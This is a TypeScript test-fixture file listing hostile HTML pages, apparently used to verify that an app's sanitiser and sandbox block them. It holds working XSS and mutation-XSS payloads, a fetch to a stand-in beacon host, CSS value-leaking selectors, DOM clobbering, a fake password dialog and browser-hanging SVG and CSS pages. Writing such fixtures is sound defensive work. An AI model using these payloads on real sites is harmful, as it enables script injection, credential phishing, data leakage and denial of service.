/** A page that tries to get out. `__BEACON__` stands for an address whose requests a listener counts. */
export interface Hostile {
  readonly name: string;
  readonly html: string;
  /**
   * Why it does nothing by itself where nothing stops it; null for a page that does: control.spec.ts shows it
   * without our server and fails where neither a script runs, nor a request goes out, nor anything is
   * navigated.
   */
  readonly quiet: string | null;
}

/** Leaves a trace wherever it runs. */
const RUN =
  "try{top.__winnowRan=1;top.document.title='ran'}catch(e){};try{parent.__winnowRan=1}catch(e){};fetch('__BEACON__/run')";
const TRACE = RUN.replaceAll('"', "&quot;");

const REWRITTEN = "harms only where a sanitiser writes it out differently from how it read it";
const TAMED = "Chromium itself has stopped it, other browsers or later ones may not";
const DISPLAY = "aims at what the app shows and asks, not at scripts";
const HEAVY = "would hang the browser where nothing stops it";

const table: readonly (readonly [name: string, html: string, quiet?: string])[] = [
  // Scripts
  ["inline script", `<script>${RUN}</script>`],
  ["module script", `<script type=module>${RUN}</script>`],
  ["script from the network", "<script src=__BEACON__/a.js></script>"],
  ["script from a data address", `<script src="data:text/javascript,${TRACE}"></script>`],
  ["script in SVG", `<svg><script>${RUN}</script></svg>`],
  [
    "script by reference in SVG",
    '<svg><script href="__BEACON__/b.js"></script><script xlink:href="__BEACON__/c.js"></script></svg>',
  ],
  ["script after an early end of a comment", `<!--><script>${RUN}</script>-->`],
  ["script after an early end of a title", `<title></title><script>${RUN}</script></title>`],
  ["script after an early end of a textarea", `<textarea></textarea><script>${RUN}</script></textarea>`],
  ["script after an early end of a style sheet", `<style></style><script>${RUN}</script></style>`],
  ["style text inside SVG that reads as markup", `<svg><style><img src=x onerror="${TRACE}"></style></svg>`],
  [
    "markup hidden in MathML",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${TRACE}&gt;"></table></mtext></math>`,
    REWRITTEN,
  ],
  [
    "markup hidden in nested forms",
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${TRACE}"></style></form>`,
    REWRITTEN,
  ],
  ["markup hidden in noscript", `<noscript><p title="</noscript><img src=x onerror=${TRACE}>"></noscript>`],
  ["markup hidden in xmp", `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`],
  [
    "markup hidden in noembed and noframes",
    `<noembed></noembed><script>${RUN}</script><noframes></noframes><script>${RUN}</script>`,
  ],
  ["markup after plaintext", `<p>a<plaintext><script>${RUN}</script>`, REWRITTEN],
  [
    "markup hidden in a template",
    `<template><script>${RUN}</script><img src=x onerror="${TRACE}"></template>`,
    REWRITTEN,
  ],
  [
    "template with a shadow root",
    `<div><template shadowrootmode=open><script>${RUN}</script><img src=__BEACON__/shadow.png></template></div>`,
  ],
  [
    "select that swallows markup",
    `<select><template><script>${RUN}</script></template><option><style><a title="</style><img src=x onerror=${TRACE}>"></select>`,
  ],
  // Handlers
  ["onerror of a picture", `<img src=x onerror="${TRACE}">`],
  ["onload of the body", `<body onload="${TRACE}" onpageshow="${TRACE}" onfocus="${TRACE}">x`],
  ["onload of SVG", `<svg onload="${TRACE}"><animate onbegin="${TRACE}" attributeName=x dur=1s></svg>`],
  [
    "handler with odd spelling",
    `<img src=x OnErRoR="${TRACE}"><img/src=x/onerror="${TRACE}"><img src=x onerror\n=\n"${TRACE}">`,
  ],
  [
    "focus handlers with autofocus",
    `<input autofocus onfocus="${TRACE}"><a tabindex=1 autofocus onfocus="${TRACE}">a</a>`,
  ],
  ["details that opens", `<details open ontoggle="${TRACE}"><summary>s</summary>d</details>`],
  [
    "media events",
    `<video onloadstart="${TRACE}" onerror="${TRACE}"><source src=x onerror="${TRACE}"></video><audio src=x onerror="${TRACE}"></audio>`,
  ],
  ["marquee events", `<marquee onstart="${TRACE}" onfinish="${TRACE}" loop=1>m</marquee>`, TAMED],
  [
    "animation events",
    `<style>@keyframes k{from{left:0}}p{animation:k 1ms}</style><p onanimationstart="${TRACE}" onanimationend="${TRACE}">p`,
  ],
  [
    "pointer and key handlers on the root",
    `<html onclick="${TRACE}" onmousemove="${TRACE}" onkeydown="${TRACE}" onscroll="${TRACE}"><p>p`,
  ],
  // Addresses that run
  ["link with javascript", `<a href="javascript:${TRACE}">click</a>`],
  ["link with an entity and a tab in javascript", `<a href="java&Tab;script&colon;${TRACE}">click</a>`],
  [
    "form with javascript",
    `<form action="javascript:${TRACE}"><button formaction="javascript:${TRACE}">go</button><input type=image formaction="javascript:${TRACE}"></form>`,
  ],
  ["frame with javascript", `<iframe src="javascript:${TRACE}"></iframe>`],
  [
    "frame with a document in an attribute",
    `<iframe srcdoc="<script>${TRACE}</script><img src=__BEACON__/srcdoc.png>"></iframe>`,
  ],
  ["frame with a data document", `<iframe src="data:text/html,<script>${TRACE}</script>"></iframe>`],
  [
    "object and embed",
    `<object data="data:text/html,<script>${TRACE}</script>"></object><embed src="__BEACON__/e.swf"><applet code=__BEACON__/a></applet>`,
  ],
  [
    "frameset",
    `<title>t</title><frameset onload="${TRACE}" cols=50%,50%><frame src="__BEACON__/frame"><frame src="javascript:${TRACE}"><noframes>__TEXT__</noframes></frameset>`,
  ],
  [
    "SVG link animated to javascript",
    `<svg><a><animate attributeName=href values="javascript:${TRACE}" /><text y=20>t</text></a></svg>`,
    TAMED,
  ],
  [
    "SVG set on a reference",
    `<svg><use id=u><set attributeName=href to="data:image/svg+xml,<svg id='x' onload='${TRACE}'/>#x" /></use></svg>`,
    TAMED,
  ],
  ["MathML link", `<math href="javascript:${TRACE}"><mi>x</mi></math>`, TAMED],
  // Requests
  [
    "pictures in every spelling",
    "<img src=__BEACON__/1.png><img srcset='__BEACON__/2.png 1x, __BEACON__/3.png 2x'><picture><source srcset=__BEACON__/4.png><img></picture><input type=image src=__BEACON__/5.png><image src=__BEACON__/6.png>",
  ],
  [
    "lazy pictures",
    "<img loading=lazy src=__BEACON__/l.png><img data-src=__BEACON__/m.png lowsrc=__BEACON__/n.png dynsrc=__BEACON__/o.png>",
  ],
  [
    "backgrounds as attributes",
    "<body background=__BEACON__/bg.png><table background=__BEACON__/t.png><tr><td background=__BEACON__/td.png>x</table>",
  ],
  [
    "media and tracks",
    "<video src=__BEACON__/v.mp4 poster=__BEACON__/p.png autoplay><track src=__BEACON__/t.vtt default></video><audio src=__BEACON__/a.mp3 autoplay></audio>",
  ],
  [
    "links of every kind",
    "<link rel=stylesheet href=__BEACON__/s.css><link rel=preload as=image href=__BEACON__/p.png><link rel=prefetch href=__BEACON__/q><link rel=icon href=__BEACON__/i.ico><link rel=modulepreload href=__BEACON__/m.js><link rel=manifest href=__BEACON__/w.json><link rel=preconnect href=__BEACON__><link rel=dns-prefetch href=__BEACON__>",
  ],
  [
    "style sheet with imports",
    "<style>@import '__BEACON__/i.css';@import url(__BEACON__/j.css) screen;p{color:red}</style><p>p",
  ],
  [
    "pictures in style",
    "<style>p{background:url(__BEACON__/a.png);list-style-image:url('__BEACON__/b.png');border-image:url(__BEACON__/c.png) 1;mask:url(__BEACON__/m.svg#x);cursor:url(__BEACON__/k.cur),auto;content:url(__BEACON__/n.png);filter:url(__BEACON__/f.svg#f)}</style><p>p",
  ],
  [
    "pictures in style by image-set and cross-fade",
    "<p style=\"background:image-set('__BEACON__/s.png' 1x);background-image:-webkit-image-set(url(__BEACON__/w.png) 1x);mask-image:cross-fade(url(__BEACON__/x.png),red)\">p",
  ],
  [
    "pictures in style with escapes",
    "<p style=\"background:u\\72l(__BEACON__/e.png);background-image:\\75\\72\\6c('__BEACON__/f.png')\">p<p style='background:url(&quot;__BEACON__/g.png&quot;)'>q",
  ],
  [
    "pictures in variables",
    "<style>:root{--a:url(__BEACON__/v.png)}p{background:var(--a)}@property --b{syntax:'<url>';inherits:true;initial-value:url(__BEACON__/r.png)}</style><p>p",
  ],
  [
    "fonts",
    "<style>@font-face{font-family:f;src:url(__BEACON__/f.woff2)}p{font-family:f}</style><p>text in the font",
  ],
  [
    "style broken on purpose",
    "<style>p{color:red;}}}} p{} p{background:url(__BEACON__/m.png)}@media screen{{p{x:y}}/*<style>*/p{list-style-image:url(__BEACON__/y.png)</style><p>p",
  ],
  ["style in a comment of old browsers", "<style><!-- p{background:url(__BEACON__/o.png)} --></style><p>p"],
  [
    "attribute selectors that send what they see",
    "<style>input[value^=a]{background:url(__BEACON__/a)}html:has(iframe){background:url(__BEACON__/h)}</style><input value=abc>",
  ],
  [
    "SVG pictures and filters",
    "<svg><image href=__BEACON__/1.svg width=9 height=9 /><image xlink:href=__BEACON__/2.svg /><use href=__BEACON__/3.svg#x /><feImage href=__BEACON__/4.svg /><rect fill='url(__BEACON__/5.svg#g)' style='filter:url(__BEACON__/6.svg#f)' width=9 height=9 /></svg>",
  ],
  [
    "SVG style and foreign content",
    "<svg><style>@import url(__BEACON__/s.css);rect{fill:url(__BEACON__/p.svg#x)}</style><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=__BEACON__/fo.png></body></foreignObject></svg>",
  ],
  [
    "speculation and reports",
    '<script type=speculationrules>{"prefetch":[{"urls":["__BEACON__/spec"]}]}</script><meta http-equiv=Content-Security-Policy content="default-src *; report-uri __BEACON__/csp"><a ping=__BEACON__/ping href=#x>a</a>',
  ],
  [
    "SVG paint by image-set and other functions",
    '<svg width=9 height=9><rect width=9 height=9 mask="image-set(\'__BEACON__/m.png\' 1x)" fill="cross-fade(url(__BEACON__/x.png),red)" clip-path="url(__BEACON__/c.svg#c)" filter="url(__BEACON__/f.svg#f)" /><path marker-start="url(\'__BEACON__/k.svg#k\')" d=\'M0 0h9\' /></svg>',
  ],
  [
    "SVG paint with escapes",
    "<svg width=9 height=9><rect width=9 height=9 mask='u\\72l(__BEACON__/m.svg#m)' fill='\\75 rl(&quot;__BEACON__/f.svg#f&quot;)' /></svg>",
  ],
  [
    "pictures in style by src and by typed attributes",
    "<style>p{background-image:-webkit-cross-fade(url(__BEACON__/c.png),url(__BEACON__/d.png),50%);list-style:square src('__BEACON__/s.png')}div{background-image:attr(data-a type(<url>),url(__BEACON__/t.png))}</style><p>p<div data-a='url(__BEACON__/u.png)'>d</div>",
  ],
  [
    "pictures through variables of variables",
    "<style>:root{--a:var(--none,var(--none,url(__BEACON__/f.png)))}p{--b:image-set('__BEACON__/i.png' 1x);background-image:var(--a),var(--b)}</style><p>p",
  ],
  [
    "pictures in every kind of rule",
    "<style>@layer a{p{background:url(__BEACON__/l.png)}}@scope (body){p{list-style-image:url(__BEACON__/s.png)}}@supports (color:red){p{border-image:url(__BEACON__/u.png) 1}}div{& p{mask-image:url(__BEACON__/n.png)}@media all{i &,b{content:url(__BEACON__/m.png)}}}body{container-type:inline-size}@container (width>1px){p::before{content:url(__BEACON__/c.png)}}</style><p>p<div><p>q</p></div>",
  ],
  [
    "style sheets by escapes of imports",
    "<style>@\\69mport '__BEACON__/e.css';@IMPORT url(__BEACON__/f.css);@import/**/'__BEACON__/g.css' layer(a) supports(color:red);</style><p>p",
  ],
  [
    "drawings in data addresses that load",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='__BEACON__/1.png'/><script>fetch('__BEACON__/2')</script></svg>"><p style="background:url(&quot;data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><style>@import '__BEACON__/3.css'</style></svg>&quot;)">p`,
    TAMED,
  ],
  [
    "pictures in data addresses that move",
    `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH/C05FVFNDQVBFMi4wAwEAAAAh+QQABQAAACwAAAAAAQABAAACAkQBACH5BAAFAAAALAAAAAABAAEAAAICTAEAOw=="><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'><animate attributeName='x' to='99' dur='1s' repeatCount='indefinite'/></rect><style>@keyframes k{to{left:0}}*{animation:k 1s infinite}</style></svg>">`,
    DISPLAY,
  ],
  [
    "motion by scrolling, by views and by changes",
    "<style>@view-transition{navigation:auto}@keyframes k{to{opacity:0}}@starting-style{p{opacity:0}}p{animation:k linear;animation-timeline:scroll();view-timeline:--v;transition:all 9s allow-discrete;offset:path('M0 0h99') 50%;view-transition-name:a}</style><p>p",
    DISPLAY,
  ],
  [
    "boxes that stick to the window by other names",
    "<style>:root{--p:fixed;--q:var(--r,STICKY)}@property --s{syntax:'*';inherits:true;initial-value:fixed}.a{position:var(--p)}.b{position:\\66 ixed}.c{position:var(--none,var(--none,fi\\78 ed))}.d{posi\\74ion:var(--s)}.e{position:attr(data-p type(<custom-ident>))}.f{position:if(else:fixed)}i{position:fixed!important;inset:0}</style><b class=a>a</b><b class=b>b</b><b class=c>c</b><b class=d>d</b><b class=e data-p=fixed>e</b><b class=f>f</b><i>i</i>",
    DISPLAY,
  ],
  [
    "a billion copies in SVG",
    `<svg><defs><g id=a0><rect width=1 height=1 /></g>${Array.from({ length: 20 }, (_, i) => `<g id=a${i + 1}>${`<use href=#a${i} />`.repeat(10)}</g>`).join("")}</defs><use href=#a20 /></svg><p>after`,
    HEAVY,
  ],
  // Navigation
  ["meta refresh", "<meta http-equiv=refresh content='0;url=__BEACON__/refresh'>"],
  ["meta refresh with javascript", `<meta http-equiv=refresh content="0;url=javascript:${TRACE}">`, TAMED],
  [
    "base that moves every link to the top",
    "<base href=__BEACON__/ target=_top><a href=x>click</a><form action=y><button>go</button></form>",
  ],
  [
    "links out of the frame",
    "<a href=__BEACON__/top target=_top>top</a><a href=__BEACON__/blank target=_blank>blank</a><a href=__BEACON__/self>self</a><a href=__BEACON__/d download>download</a><area href=__BEACON__/area>",
  ],
  [
    "form that sends itself",
    `<form id=f action=__BEACON__/form target=_top><input name=a value=b><button autofocus>go</button></form><script>f.submit()</script>`,
  ],
  [
    "link that covers the page",
    "<a href=/ target=_top style='position:fixed;inset:0;z-index:2147483647;background:#fff8'>everything</a>",
  ],
  // The parent
  [
    "names that clobber the document",
    "<img name=getElementById><form name=body><input name=parentNode><input id=attributes></form><img id=documentElement name=documentElement><form id=createTreeWalker name=createRange></form><embed name=contentDocument>",
    DISPLAY,
  ],
  [
    "forms that clobber their own methods",
    "<form id=f><input id=getAttribute name=getAttribute><input name=nodeName><input name=textContent><p>text in the form</form>",
    DISPLAY,
  ],
  [
    "ids of the app",
    "<div id=__next data-n=1 data-testid=paper class=work><p data-n=2>fake numbers</p></div>",
    DISPLAY,
  ],
  [
    "dialog on top of everything",
    "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh;z-index:99999999'>Log in again <input type=password autofocus></dialog><div popover=manual>pop</div>",
    DISPLAY,
  ],
  [
    "text that asks the parent",
    "<p>{{constructor.constructor('top.__winnowRan=1')()}} ${top.__winnowRan=1} <%= 1 %></p><title><img src=x onerror=top.__winnowRan=1></title>",
    DISPLAY,
  ],
  [
    "a page as tall as it can be",
    "<div style='height:10000000px'>tall</div><div style='height:100vh;width:100vw'>window</div>",
    DISPLAY,
  ],
  [
    "motion without end",
    "<style>@keyframes s{to{transform:rotate(1turn)}}*{animation:s .1s infinite;transition:all 9s}</style><marquee>m</marquee><blink>b</blink><p>p",
    DISPLAY,
  ],
  ["nesting without end", `${"<div>".repeat(20_000)}deep`, HEAVY],
  [
    "NUL bytes and strange tags",
    `a\0b<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error="${TRACE}"><p onclick\0="${TRACE}">c`,
  ],
  ["attribute without an end", `<p title="never closed><script>${RUN}</script>`, REWRITTEN],
  ["UTF-7 and other disguises", `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-<p>text`, TAMED],
];

/**
 * Pages that hold the window that shows them for many seconds where nothing stops them; heavy.spec.ts shows
 * that they do, and that in the app they do not.
 */
const heavy: readonly (readonly [name: string, html: string])[] = [
  [
    "copies of copies in SVG",
    `<svg><defs><g id=a0><rect width=1 height=1 /></g>${layered(7, (i) => `<g id=a${i + 1}>${`<use href=#a${i} />`.repeat(10)}</g>`)}</defs><use href=#a7 /></svg>`,
  ],
  [
    "copies of copies in a drawing in a data address",
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><rect width="1" height="1"/></g>${layered(7, (i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`)}</defs><use href="#a7"/></svg>`)}">`,
  ],
  [
    "masks in masks",
    `<svg width=500 height=500>${layered(9, (i) => `<mask id=a${i + 1}>${`<rect width=9 height=99 fill=white mask=url(#a${i}) />`.repeat(10)}</mask>`)}<mask id=a0><rect fill=white width=9 height=9 /></mask><rect width=500 height=500 mask=url(#a9) /></svg>`,
  ],
  [
    "clips in clips",
    `<svg width=500 height=500>${layered(9, (i) => `<clipPath id=a${i + 1}>${`<rect width=9 height=99 clip-path=url(#a${i}) />`.repeat(10)}</clipPath>`)}<clipPath id=a0><rect width=9 height=9 /></clipPath><rect width=500 height=500 clip-path=url(#a9) /></svg>`,
  ],
  ["columns in columns", `${"<div style='columns:2'>".repeat(40)}${"x ".repeat(500)}`],
  ["a stack of blur", `<div style="filter:${"blur(30px) ".repeat(2_000)}">x</div>`],
  [
    "a stack of shadows",
    `<div style="box-shadow:${layered(40_000, (i) => `${i === 0 ? "" : ","}${i % 50}px 0 60px red`)}">x</div>`,
  ],
  [
    "a thousand planes through one another",
    `<style>body{transform-style:preserve-3d}${layered(1_000, (i) => `.c${i}{position:absolute;top:0;transform:rotateX(${i % 89}deg) rotateY(${i}deg)}`)}</style>${manyParagraphs(1_000)}`,
  ],
  [
    "selectors that look at what follows",
    `<style>${layered(600, (i) => `:has(~ .z${i} * ~ *){color:red}`)}</style>${manyParagraphs(15_000)}`,
  ],
  [
    "selectors that count",
    `<style>${layered(1_500, (i) => `:nth-child(${i + 1}n of :not(.c${i})){color:red}`)}</style>${manyParagraphs(15_000)}`,
  ],
  [
    "selectors for everything",
    `<style>${layered(40_000, (i) => `*:not(.z${i}){padding-left:0}`)}</style>${manyParagraphs(10_000)}`,
  ],
  [
    "words written before every element",
    `<style>p::before{content:"${"long ".repeat(30_000)}"}</style>${manyParagraphs(2_000)}`,
  ],
  [
    "numbers written before every element",
    `<style>p::before{content:${"counter(x) ".repeat(20_000)}}</style>${manyParagraphs(1_000)}`,
  ],
  [
    "cells that span everything",
    `<table>${layered(400, () => `<tr>${"<td colspan=1000 rowspan=60000>x".repeat(100)}`)}</table>`,
  ],
  ["a letter with a hundred thousand accents", `<p>x${"\u0301".repeat(150_000)}`],
  [
    "a hundred formulas of five hundred levels",
    `<math>${"<mrow>".repeat(450)}<mi>x</mi>${"</mrow>".repeat(450)}</math>`.repeat(100),
  ],
];

/** Parts of a page that are the same but for a number. */
function layered(count: number, part: (i: number) => string): string {
  return Array.from({ length: count }, (_, i) => part(i)).join("");
}

function manyParagraphs(count: number): string {
  return layered(count, (i) => `<p class=c${i}>word ${i}</p>`);
}

const TEXT = "<p>Text of the page.</p>";

/**
 * All fixtures, each with a line of text so that the page is one that can be stored: first in the page, or
 * where it says.
 */
export const HOSTILE: readonly Hostile[] = table.map(([name, html, quiet = null]) => ({
  name,
  html: html.includes("__TEXT__") ? html.replace("__TEXT__", TEXT) : TEXT + html,
  quiet,
}));

/** Heavy pages, in the mode that browsers lay out as the standard says. */
export const HEAVY_PAGES: readonly Hostile[] = heavy.map(([name, html]) => ({
  name,
  html: `<!doctype html>${TEXT}${html}`,
  quiet: HEAVY,
}));

/** The markup of a fixture with the address of the listener in its place. */
export function armed({ html }: Hostile, beacon: string): string {
  return html.replaceAll("__BEACON__", beacon);
}
